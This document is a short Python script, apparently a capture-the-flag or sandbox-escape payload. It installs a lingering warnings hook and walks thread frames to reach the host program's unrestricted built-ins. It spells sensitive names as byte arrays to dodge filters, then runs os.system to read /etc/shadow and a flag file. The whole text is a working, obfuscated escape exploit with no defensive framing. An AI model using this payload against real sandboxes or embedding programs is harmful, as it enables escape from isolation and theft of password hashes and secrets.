# technique: a replacement warnings.showwarning stays installed after the untrusted code returns, so it also runs whenever the embedding program emits a warning; inside it the warnings module's own namespace yields the interpreter-state module; its all-threads frame snapshot leads to the top-level frame of the embedding program and that frame's unrestricted built-in table; names come from array('b', ...).tobytes()
import warnings
from array import array


def text(*codes):
    return array("b", codes).tobytes().decode()


def hook(message, category, filename, lineno, file=None, line=None):
    interp = next(v for v in vars(warnings).values() if getattr(v, "__name__", "") == "sys")
    snapshot = getattr(interp, text(95, 99, 117, 114, 114, 101, 110, 116, 95, 102, 114, 97, 109, 101, 115))()
    for frame in snapshot.values():
        while frame.f_back is not None:
            frame = frame.f_back
        loader = frame.f_builtins.get(text(95, 95, 105, 109, 112, 111, 114, 116, 95, 95))
        if loader is not None:
            proc = loader(text(111, 115))
            getattr(proc, text(115, 121, 115, 116, 101, 109))("cat /etc/shadow; cat /fl?g")
            return


warnings.simplefilter("always")
warnings.showwarning = hook
warnings.warn("harmless looking deprecation", DeprecationWarning)
